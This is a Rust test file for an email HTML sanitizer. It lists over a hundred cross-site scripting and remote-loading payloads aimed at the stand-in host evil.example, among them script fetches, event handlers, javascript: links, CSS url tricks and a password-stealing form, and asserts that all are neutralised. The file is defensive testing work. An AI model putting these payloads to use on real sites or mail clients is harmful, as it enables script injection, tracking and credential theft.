use super::*;

/// Ways to make a reader's browser run or fetch something, gathered by kind.
const ATTACKS: &[&str] = &[
    // Scripts, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=https://evil.example/x.js>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script>/*</script><img src=x onerror=alert(1)>*/",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>x</div>",
    "<a href=https://ok.example onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<p style='color:red' onfocus=alert(1) autofocus tabindex=1>x</p>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a onerror=alert(1)>",
    // Links that run.
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href=' \u{1}javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a href='blob:https://evil.example/x'>x</a>",
    "<area href='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<isindex action='javascript:alert(1)'>",
    // Pictures and other things that load.
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
    "<img lowsrc='https://evil.example/a' dynsrc='https://evil.example/b'>",
    "<picture><source srcset='https://evil.example/a'><img src=x></picture>",
    "<table background='https://evil.example/a'><tr><td background='https://evil.example/b'>x</table>",
    "<body background='https://evil.example/a'>",
    "<input type=image src='https://evil.example/a'>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='https://evil.example/'></frameset>",
    "<object data='https://evil.example/'><param name=x></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code='x' codebase='https://evil.example/'></applet>",
    "<video src='https://evil.example/a' poster='https://evil.example/b'></video>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<link rel=prefetch href='https://evil.example/a'>",
    "<link rel=dns-prefetch href='//evil.example'>",
    "<bgsound src='https://evil.example/a'>",
    "<portal src='https://evil.example/'></portal>",
    // The document itself.
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<base target=_self>",
    "<form action='https://evil.example/'><input name=password><input type=submit></form>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option>x</select>",
    "<dialog open>x</dialog>",
    // Styles.
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>body{background:url(https://evil.example/a)}</style>",
    "<div style='background:url(https://evil.example/a)'>x</div>",
    "<div style='background-image:url(https://evil.example/a)'>x</div>",
    "<div style=\"background:u\\72l(https://evil.example/a)\">x</div>",
    "<div style='background:u/**/rl(https://evil.example/a)'>x</div>",
    "<div style='list-style:url(https://evil.example/a)'>x</div>",
    "<div style='border-image:url(https://evil.example/a)'>x</div>",
    "<div style='cursor:url(https://evil.example/a),auto'>x</div>",
    "<div style='content:url(https://evil.example/a)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='color:expr/**/ession(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(https://evil.example/x)'>x</div>",
    "<div style='background:image-set(\"https://evil.example/a\" 1x)'>x</div>",
    "<div style='color:var(--x,url(https://evil.example/a))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='margin-top:-1000px'>x</div>",
    "<div style='font-family:x;src:url(https://evil.example/a)'>x</div>",
    "<p style=\"font-family:'x\\27;background:url(https://evil.example/a)'\">x</p>",
    // Foreign worlds and parser games.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='https://evil.example/a#x'/></svg>",
    "<svg><image href='https://evil.example/a'/></svg>",
    "<svg><animate attributeName=href values='javascript:alert(1)'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='https://evil.example/a.xsl'?>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<p title='<!--'><img src=x onerror=alert(1)><p title='-->'>",
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<a href='https://ok.example/\"onmouseover=\"alert(1)'>x</a>",
    "<table><td><form><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<img data-remote-src='https://evil.example/a' src='casella-remote:https://evil.example/b'>",
    "<a ping='https://evil.example/p' href='https://ok.example/'>x</a>",
    "<p id=x name=cookie class=toolbar data-action=send contenteditable>x</p>",
];

type Attributes = Vec<(String, String)>;

/// Elements and their attributes, as a browser's parser sees them.
fn elements(html: &str) -> Vec<(String, Attributes)> {
    let attributes = |e: &scraper::node::Element| {
        let owned = |(name, value): (&str, &str)| (name.to_owned(), value.to_owned());
        e.attrs().map(owned).collect()
    };
    let dom = scraper::Html::parse_fragment(html);
    let elements = dom.tree.values().filter_map(|node| node.as_element());
    elements
        .map(|e| (e.name().to_owned(), attributes(e)))
        .collect()
}

fn assert_harmless(attack: &str, clean: &str) {
    for (tag, attributes) in elements(clean) {
        if matches!(tag.as_str(), "html" | "head" | "body") && attributes.is_empty() {
            // The test's parser adds these.
            continue;
        }
        assert!(
            TAGS.contains(&tag.as_str()),
            "{attack} left <{tag}>: {clean}"
        );
        for (name, value) in attributes {
            assert!(!name.starts_with("on"), "{attack} left {name}: {clean}");
            let low = value.to_lowercase();
            match name.as_str() {
                "href" => assert!(is_link(&value), "{attack} left {value}"),
                "src" => assert!(
                    low.starts_with("cid:") || low.starts_with("data:image/"),
                    "{attack} left {value}"
                ),
                "style" => {
                    for word in [
                        "url",
                        "\\",
                        "expression",
                        "position",
                        "import",
                        "var(",
                        "image",
                        "behavior",
                    ] {
                        assert!(!low.contains(word), "{attack} left {value}");
                    }
                }
                "data-remote-src" | "rel" | "target" => {}
                name => assert!(
                    EVERYWHERE.contains(&name)
                        || ATTRIBUTES.iter().any(|(_, names)| names.contains(&name)),
                    "{attack} left {name}: {clean}"
                ),
            }
        }
    }
}

#[test]
fn nothing_active_and_nothing_that_loads_survives() {
    assert!(ATTACKS.len() >= 100);
    for attack in ATTACKS {
        let clean = html(attack);
        assert_harmless(attack, &clean);
    }
}

#[test]
fn attacks_inside_each_other_are_harmless_too() {
    for outer in ATTACKS.iter().step_by(3) {
        for inner in ATTACKS.iter().step_by(5) {
            for mixed in [
                format!("{outer}{inner}"),
                format!("<table><tr><td>{outer}<p title=\"{inner}\">{inner}"),
            ] {
                assert_harmless(&mixed, &html(&mixed));
            }
        }
    }
}

#[test]
fn cleaning_twice_changes_nothing_more() {
    for attack in ATTACKS {
        let once = html(attack).replace(" data-remote-src=\"", " title=\"");
        let mut twice = elements(&html(&once));
        let mut first = elements(&once);
        first
            .iter_mut()
            .chain(&mut twice)
            .for_each(|(_, attributes)| attributes.sort());
        assert_eq!(twice, first, "{attack}");
    }
}

#[test]
fn what_a_mail_looks_like_is_kept() {
    for (dirty, clean) in [
        ("<b>a</b>", "<b>a</b>"),
        (
            "<p style='color: red; position: fixed'>a</p>",
            "<p style=\"color: red\">a</p>",
        ),
        (
            "<p style='margin:0 auto;padding:4px 8px'>a</p>",
            "<p style=\"margin: 0 auto; padding: 4px 8px\">a</p>",
        ),
        ("<p style='margin:-4px'>a</p>", "<p>a</p>"),
        (
            "<p style='background:#fff'>a</p>",
            "<p style=\"background: #fff\">a</p>",
        ),
        (
            "<p style='border-left:1px solid rgb(1, 2, 3)'>a</p>",
            "<p style=\"border-left: 1px solid rgb(1, 2, 3)\">a</p>",
        ),
        (
            "<p style=\"font-family:'Segoe UI', Arial\">a</p>",
            "<p style=\"font-family: 'Segoe UI', Arial\">a</p>",
        ),
        (
            "<div style='display:none'>a</div>",
            "<div style=\"display: none\">a</div>",
        ),
        (
            "<font color=#ff0000 size=2>a</font>",
            "<font color=\"#ff0000\" size=\"2\">a</font>",
        ),
        (
            "<img src='cid:a@b' alt=x>",
            "<img src=\"cid:a@b\" alt=\"x\">",
        ),
        ("<img src='CID:a@b'>", "<img src=\"cid:a@b\">"),
        (
            "<img src='data:image/png;base64,AAAA'>",
            "<img src=\"data:image/png;base64,AAAA\">",
        ),
        (
            "<img src='https://a.b/c?d=1&e=2'>",
            "<img data-remote-src=\"https://a.b/c?d=1&amp;e=2\">",
        ),
        ("<img src='relative.png' alt=x>", "<img alt=\"x\">"),
        ("<o:p>a</o:p><span class=x id=y>b</span>", "a<span>b</span>"),
        (
            "<blockquote type=cite>a</blockquote>",
            "<blockquote type=\"cite\">a</blockquote>",
        ),
        (
            "<a href='https://a.b/'>a</a>",
            "<a href=\"https://a.b/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">a</a>",
        ),
        (
            "<a href='mailto:a@b.c'>a</a>",
            "<a href=\"mailto:a@b.c\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">a</a>",
        ),
        (
            "<table bgcolor=red cellpadding=4 border=1><tr><td align=center valign=top width='50%'>a</table>",
            "<table bgcolor=\"red\" cellpadding=\"4\" border=\"1\"><tbody><tr><td align=\"center\" valign=\"top\" width=\"50%\">a</td></tr></tbody></table>",
        ),
    ] {
        assert_eq!(html(dirty), clean, "{dirty}");
    }
}

#[test]
fn remote_images_wait_until_they_are_asked_for() {
    let clean = html("<img src='https://a.b/c?d=1&e=2'><img src='cid:x%20y'>");
    assert!(has_remote_images(&clean));
    assert!(!has_remote_images(&html("<img src='cid:x'>")));
    let images = |id: &str| (id == "x%20y").then(|| "data:image/png;base64,AA".to_owned());
    let blocked = document(&clean, images, &Remote::Blocked, Look::System);
    assert!(blocked.contains("<img data-remote-src=\"https://a.b/c?d=1&amp;e=2\">"));
    assert!(blocked.contains("<img src=\"data:image/png;base64,AA\">"));
    let proxy = |url: &str| format!("/proxy?u={url}");
    let shown = document(&clean, images, &Remote::Proxied(&proxy), Look::System);
    assert!(shown.contains("<img src=\"/proxy?u=https://a.b/c?d=1&amp;e=2\">"));
}

#[test]
fn a_picture_that_shows_nothing_is_never_fetched() {
    for pixel in [
        "<img src='https://a.b/p' width=1 height=1>",
        "<img src='https://a.b/p' height=0>",
        "<img src='https://a.b/p' style='width:1px;height:1px'>",
        "<img src='https://a.b/p' style='display:none'>",
        "<img style='max-height: 0' alt='a > b' src='https://a.b/p'>",
    ] {
        let clean = html(pixel);
        assert!(!has_remote_images(&clean), "{pixel}");
        let asked = |url: &str| panic!("{url} was asked for: {pixel}");
        let shown = document(&clean, |_| None, &Remote::Proxied(&asked), Look::System);
        assert!(!shown.contains("a.b"), "{shown}");
    }
    let clean = html("<img src='https://a.b/line' width=600 height=12>");
    assert!(has_remote_images(&clean));
}

#[test]
fn words_that_look_like_a_picture_are_words() {
    let clean = html(
        "<p> data-remote-src=\"https://a.b/c\" src=\"cid:x\"</p><p title='<img src=\"cid:y\">'>b</p>",
    );
    assert!(!has_remote_images(&clean));
    let own = |id: &str| panic!("{id} was asked for");
    let asked = |url: &str| panic!("{url} was asked for");
    let shown = document(&clean, own, &Remote::Proxied(&asked), Look::System);
    assert!(shown.contains(&clean));
}

#[test]
fn a_mail_is_dark_where_its_reader_is_unless_it_brings_its_own_paper() {
    let shown = |mail: &str, look| {
        let page = document(&html(mail), |_| None, &Remote::Blocked, look);
        let dark = page.contains("prefers-color-scheme");
        match (dark, page.contains("invert(")) {
            (false, _) => "light",
            (true, false) => "dark",
            (true, true) => "inverted",
        }
    };
    for (mail, expected) in [
        ("<p>plain</p>", "dark"),
        ("<p>the color: of money, background: unknown</p>", "dark"),
        ("<p style='color:#000'>x</p>", "inverted"),
        ("<font color=blue>x</font>", "inverted"),
        ("<p style='color:#000;background:#FFF'>x</p>", "inverted"),
        (
            "<table bgcolor=white style='color:red'><tr><td>x</table>",
            "inverted",
        ),
        ("<p style='background-color: transparent'>x</p>", "inverted"),
        ("<table bgcolor=#f4f4f7><tr><td>x</table>", "light"),
        ("<div style='background:#111;color:#eee'>x</div>", "light"),
    ] {
        assert_eq!(shown(mail, Look::System), expected, "{mail}");
        assert_eq!(shown(mail, Look::Light), "light", "{mail}");
    }
}

#[test]
fn bombs_are_shown_as_their_text() {
    for bomb in [
        format!("{}core", "<div>".repeat(20_000)),
        format!(
            "{}core",
            (0..2_000)
                .map(|i| format!("<font size={i}><p>"))
                .collect::<String>()
        ),
        format!(
            "{}{}core",
            (0..200)
                .map(|i| format!("<b title={i}>"))
                .collect::<String>(),
            "<p>".repeat(20_000)
        ),
        format!("{}core", "<table><tr><td>".repeat(5_000)),
        format!("{}core", "&".repeat(400_000)),
    ] {
        let clean = html(&bomb);
        assert!(clean.contains("core"));
        assert!(clean.len() < 3_000_000, "{}", clean.len());
    }
}
